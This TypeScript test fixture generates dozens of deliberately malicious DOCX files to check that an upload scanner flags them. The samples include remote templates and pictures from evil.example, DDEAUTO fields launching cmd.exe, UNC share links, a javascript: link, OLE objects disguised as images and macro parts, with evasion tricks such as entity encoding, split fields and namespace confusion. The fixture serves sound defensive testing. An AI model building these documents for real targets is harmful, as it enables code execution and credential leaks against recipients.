import { docxParts } from '../../../demo/files/make-docx.ts';
import { makeZip, type ZipPart } from '../../../demo/files/make-zip.ts';
import type { ContentFindingCode } from '../../../shared/uploads/content/finding.ts';
import type { BadFile } from './bad-pictures.ts';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const packaged = 'http://schemas.openxmlformats.org/package/2006';
const template = `Type="${office}/attachedTemplate" Target="http://evil.example/t.dotm"`;
const settingsRels = 'word/_rels/settings.xml.rels';

type Row = [title: string, parts: ZipPart[], code: ContentFindingCode];

/** Word documents that load, start or carry what a document does not need, each written so as not to be recognised. */
export function badDocx(): BadFile[] {
  const rows: Row[] = [
    [
      'a template from outside',
      [relations(relation(`${template} TargetMode="External"`))],
      'external_content',
    ],
    [
      'a template in single quotes',
      [relations(relation(`${template} TargetMode="External"`).replaceAll('"', "'"))],
      'external_content',
    ],
    [
      'a template over many lines',
      [relations(relation(`${template}\n\tTargetMode\n=\n"External"\n`))],
      'external_content',
    ],
    ['a template in UTF-16', [encoded('\ufeff')], 'external_content'],
    [
      'a template whose mode is written as an entity',
      [relations(relation(`${template} TargetMode="&#69;xternal"`))],
      'external_content',
    ],
    [
      'a template with an angle bracket before its mode',
      [relations(relation(`${template.replace('t.dotm', 't>.dotm')} TargetMode="External"`))],
      'external_content',
    ],
    [
      'a template in a part named in capitals',
      [{ ...relations(relation(`${template} TargetMode="External"`)), name: 'word/_rels/settings.xml.RELS' }],
      'external_content',
    ],
    ['a template in UTF-16 without its mark', [encoded('')], 'damaged'],
    ['a template behind a prefix', [prefixed()], 'external_content'],
    ['a template that is not said to be outside', [relations(relation(template))], 'macros'],
    [
      'a picture that is not said to be outside',
      [relations(relation(`Type="${office}/image" Target="//evil.example/x"`))],
      'external_content',
    ],
    [
      'a picture from outside',
      [relations(relation(`Type="${office}/image" Target="http://x.example/" TargetMode="External"`))],
      'external_content',
    ],
    ['a link to a share', [relations(link('file://evil/share'))], 'external_content'],
    ['a link to a share without a scheme', [relations(link('\\\\evil\\share\\a.docx'))], 'external_content'],
    ['a link to a script', [relations(link('java&#115;cript:alert(1)'))], 'external_content'],
    ['a macro project', [{ name: 'word/vbaProject.bin', content: 'x' }], 'macros'],
    [
      'a macro project under another name',
      withType('word/m.dat', 'application/vnd.ms-office.vba&#80;roject'),
      'macros',
    ],
    [
      'a macro project as an XML part',
      withType('word/m.xml', 'application/vnd.ms-office.vba&#80;roject'),
      'macros',
    ],
    [
      'a type for macros as its main part',
      withType('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      'macros',
    ],
    [
      'an embedded object',
      [
        relations(relation(`Type="${office}/ole&#79;bject" Target="embeddings/o.dat"`)),
        { name: 'word/embeddings/o.png', content: 'x' },
      ],
      'macros',
    ],
    [
      'an embedded object named as a picture',
      [...withDefault('png'), { name: 'word/media/o.png', content: ole }],
      'macros',
    ],
    ...['bin', 'dat', 'scr', 'ps1', 'hta', 'lnk', 'exe'].map(
      (ending): [string, ZipPart[], ContentFindingCode] => [
        `a part x.${ending}`,
        [{ name: `word/x.${ending}`, content: 'x' }],
        'macros',
      ],
    ),
    ['a part in pieces', [{ name: 'word/settings.xml/[0].piece', content: 'x' }], 'macros'],
    [
      'a part whose name is escaped',
      [{ name: 'word/_rels/settings.xml.%72els', content: 'x' }],
      'archive_bad_name',
    ],
    [
      'a document type',
      [{ name: 'word/styles.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }],
      'active_content',
    ],
    [
      'an encoding of its own',
      [{ name: 'word/styles.xml', content: '<?xml version="1.0" encoding="utf-7"?><a/>' }],
      'damaged',
    ],
    ['elements without end', [{ name: 'word/styles.xml', content: '<a>'.repeat(100_000) }], 'damaged'],
    [
      'a field that starts a program',
      [body(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))],
      'active_content',
    ],
    [
      'a field in pieces',
      [
        body(
          mark('begin') +
            code('D') +
            code('DE') +
            code('AUTO c:\\\\cmd.exe') +
            mark('separate') +
            mark('end'),
        ),
      ],
      'active_content',
    ],
    ['a field without an end', [body(mark('begin') + code('dde c:\\\\cmd.exe'))], 'active_content'],
    [
      'a field made by another',
      [body(mark('begin') + field('QUOTE 68 68 69') + code(' c:\\\\cmd.exe') + mark('end'))],
      'active_content',
    ],
    [
      'a field whose keyword another field makes',
      [body(mark('begin') + field('QUOTE "DDEAUTO"') + code(' PAGE c:\\\\cmd.exe') + mark('end'))],
      'active_content',
    ],
    ['a code outside of any field', [body(code('DDEAUTO c:\\\\cmd.exe'))], 'damaged'],
    [
      'another type for its text',
      withType(
        'word/document.xml',
        'application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml',
      ),
      'damaged',
    ],
    [
      'another root in its text',
      [{ name: 'word/document.xml', content: String(body('').content).replaceAll('w:document', 'w:styles') }],
      'damaged',
    ],
    [
      'a picture beside it that is said to be outside',
      [relations(relation(`Type="${office}/image" Target="x.png" TargetMode="External"`))],
      'external_content',
    ],
    [
      'a program that is said to be a picture',
      [...withDefault('exe'), { name: 'word/x.exe', content: 'x' }],
      'macros',
    ],
    ['a simple field', [body('<w:p><w:fldSimple w:instr=" DDE&#65;UTO cmd "/></w:p>')], 'active_content'],
    [
      'a field in a header',
      [{ name: 'word/header1.xml', content: body(field('INCLUDETEXT "c:\\\\a"')).content }],
      'active_content',
    ],
    ['a picture field', [body(field('INCLUDEPICTURE "http://evil.example/x.png" \\d'))], 'active_content'],
    ['a link field to a share', [body(field('HYPERLINK \\o "tip" "file://evil/share"'))], 'external_content'],
    [
      'a link field whose target another field makes',
      [body(mark('begin') + code('HYPERLINK ') + field('QUOTE "file:"') + mark('end'))],
      'external_content',
    ],
    ['a page of HTML inside', [body('<w:altChunk r:id="r1" xmlns:r="r"/>')], 'active_content'],
    [
      'a relationship to a page of HTML',
      [relations(relation(`Type="${office}/aFChunk" Target="a.html"`))],
      'macros',
    ],
    [
      'a data source',
      [{ name: 'word/settings.xml', content: '<w:settings xmlns:w="w"><w:mailMerge/></w:settings>' }],
      'active_content',
    ],
    [
      'a picture by its address',
      [body('<v:imagedata xmlns:v="v" src="http://evil.example/x.png"/>')],
      'external_content',
    ],
  ];
  return [...rows, ...misread()].map(([title, parts, code]) => ({
    title: `a DOCX with ${title}`,
    purpose: 'test_report',
    fileName: 'report.docx',
    bytes: changed(parts),
    codes: [code],
  }));
}

const dde = 'DDEAUTO c:\\\\cmd.exe';
const mainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const headerType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml';
const deleted = (text: string): string =>
  `<w:del><w:r><w:delInstrText>${text}</w:delInstrText></w:r></w:del>`;
const behind = (before: string): ZipPart[] => [
  body(mark('begin') + before + code(dde) + mark('separate') + mark('end')),
];
const foreign = '<x:t xmlns:x="x">PAGE </x:t>';

/** What Word reads in another way than a careless reader does. */
function misread(): Row[] {
  const main = (target: string, type = `${office}/officeDocument`): ZipPart => ({
    name: '_rels/.rels',
    content: listed(relation(`Type="${type}" Target="${target}"`)),
  });
  const choice = `<mc:AlternateContent xmlns:mc="m"><mc:Choice>${code('PAGE ')}</mc:Choice><mc:Fallback/></mc:AlternateContent>`;
  const picture = { ...body(field(dde)), name: 'word/media/a.png' };
  return [
    [
      'its text in a picture',
      [
        ...withType('word/a.png', mainType).slice(0, 1),
        main('word/a.png'),
        { ...picture, name: 'word/a.png' },
      ],
      'macros',
    ],
    [
      'a header in a picture',
      [...withType('word/a.png', headerType).slice(0, 1), { ...picture, name: 'word/a.png' }],
      'macros',
    ],
    ['a picture that is a text', [...withDefault('png'), picture], 'hidden_data'],
    [
      'a picture that is a header',
      [...withDefault('png'), relations(relation(`Type="${office}/header" Target="a.png"`))],
      'hidden_data',
    ],
    [
      'another part as its text',
      [main('word/styles.xml'), { name: 'word/styles.xml', content: '<a/>' }],
      'hidden_data',
    ],
    [
      'a second text',
      [relations(relation(`Type="${office}/officeDocument" Target="word/document.xml"`))],
      'hidden_data',
    ],
    ['no text that is named', [main('word/document.xml', `${office}/styles`)], 'damaged'],
    [
      'two types for a part',
      [
        types(
          typesNow().replace(
            '</Types>',
            `<Override PartName="/WORD/document.xml" ContentType="${mainType}"/></Types>`,
          ),
        ),
      ],
      'hidden_data',
    ],
    ['two types for an ending', withDefault('XML'), 'hidden_data'],
    [
      'a type of another namespace',
      [types(typesNow().replace('<Override ', '<Override xmlns="x" '))],
      'damaged',
    ],
    [
      'a relationship that is read in two ways',
      [
        relations(
          relation(
            `${template} TargetMode="External" xmlns:x="x" x:Type="${office}/styles" x:Target="a.xml" x:TargetMode="Internal"`,
          ),
        ),
      ],
      'damaged',
    ],
    [
      'a simple field that is read in two ways',
      [body(`<w:p><w:fldSimple w:instr="${dde}" xmlns:x="x" x:instr="PAGE"/></w:p>`)],
      'active_content',
    ],
    [
      'a picture whose address is read in two ways',
      [body('<v:imagedata xmlns:v="v" src="http://a.example/x.png" v:src=""/>')],
      'external_content',
    ],
    [
      'a field mark that is read in two ways',
      [body('<w:r><w:fldChar w:fldCharType="begin" xmlns:x="x" x:fldCharType="end"/></w:r>')],
      'hidden_data',
    ],
    ['a field behind a choice', behind(choice), 'hidden_data'],
    ['a field behind text of another namespace', behind(`<w:r>${foreign}</w:r>`), 'hidden_data'],
    [
      'a field behind text in a property',
      behind('<w:r><w:rPr><w:t>PAGE </w:t></w:rPr></w:r>'),
      'hidden_data',
    ],
    ['a field behind text outside a run', behind('<w:instrText>PAGE </w:instrText>'), 'hidden_data'],
    ['a field behind a sign of its own', behind('<w:r><w:sym w:char="F044"/></w:r>'), 'hidden_data'],
    ['a field behind a deleted keyword', behind(deleted('PAGE ')), 'active_content'],
    ['a field behind an inserted keyword', behind(`<w:ins>${code('PAGE ')}</w:ins>`), 'active_content'],
    ['a field that was deleted', [body(mark('begin') + deleted(dde) + mark('end'))], 'active_content'],
    [
      'a field before whose keyword another stands',
      [body(mark('begin') + field('QUOTE "DDE c:"') + code(' PAGE ') + mark('end'))],
      'active_content',
    ],
    [
      'a field before whose keyword a simple one stands',
      [body(`${mark('begin')}<w:fldSimple w:instr="QUOTE 68"/>${code(' PAGE ')}${mark('end')}`)],
      'active_content',
    ],
    ['a field whose code is a book', [body(field(`QUOTE ${'a'.repeat(10_000)}`))], 'damaged'],
    ['a film', [body('<x:webVideoPr xmlns:x="x" embeddedHtml="&lt;script>"/>')], 'active_content'],
    [
      'a shape that leads to a share',
      [body('<v:rect xmlns:v="v" href="\\\\evil\\share\\a.exe"/>')],
      'external_content',
    ],
    [
      'a picture of another address',
      [body('<v:imagedata xmlns:v="v" xmlns:o="o" o:href="http://a.example/x.png"/>')],
      'external_content',
    ],
    [
      'a drawing that loads a picture',
      [
        types(
          typesNow().replace('<Default', '<Default Extension="svg" ContentType="image/svg+xml"/><Default'),
        ),
        { name: 'word/media/a.svg', content: '<svg><image href="http://a.example/x.png"/></svg>' },
      ],
      'external_content',
    ],
  ];
}

const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const relation = (attributes: string): string => `<Relationship Id="r1" ${attributes}/>`;
const link = (target: string): string =>
  relation(`Type="${office}/hyperlink" Target="${target}" TargetMode="External"`);
const listed = (items: string): string =>
  `<Relationships xmlns="${packaged}/relationships">${items}</Relationships>`;
const relations = (items: string): ZipPart => ({ name: settingsRels, content: listed(items) });

function encoded(mark: string): ZipPart {
  const text = `${mark}<?xml version="1.0" encoding="UTF-16"?>${listed(relation(`${template} TargetMode="External"`))}`;
  return { name: settingsRels, content: Buffer.from(text, 'utf16le') };
}

function prefixed(): ZipPart {
  const item = relation(`${template} TargetMode="External"`).replace('<', '<a-b:');
  return {
    name: settingsRels,
    content: `<a-b:Relationships xmlns:a-b="${packaged}/relationships">${item}</a-b:Relationships>`,
  };
}

const types = (content: string): ZipPart => ({ name: '[Content_Types].xml', content });
const typesNow = (): string => String(docxParts('', [])[0]?.content);
const withDefault = (ending: string): ZipPart[] => [
  types(typesNow().replace('<Default', `<Default Extension="${ending}" ContentType="image/png"/><Default`)),
];

function withType(name: string, type: string): ZipPart[] {
  const without = typesNow().replace(/<Override [^>]*document\.xml[^>]*>/, (own) =>
    name === 'word/document.xml' ? '' : own,
  );
  const own = `<Override PartName="/${name}" ContentType="${type}"/></Types>`;
  const part = name === 'word/document.xml' ? [] : [{ name, content: '<a/>' }];
  return [types(without.replace('</Types>', own)), ...part];
}

const body = (content: string): ZipPart => ({
  name: 'word/document.xml',
  content: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${content}</w:body></w:document>`,
});
const mark = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const code = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = (text: string): string =>
  `<w:p>${mark('begin')}${code(text)}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}</w:p>`;

function changed(parts: readonly ZipPart[]): Buffer {
  const names = new Set(parts.map(({ name }) => name));
  return makeZip([...docxParts('测试报告', ['正文']).filter(({ name }) => !names.has(name)), ...parts]);
}
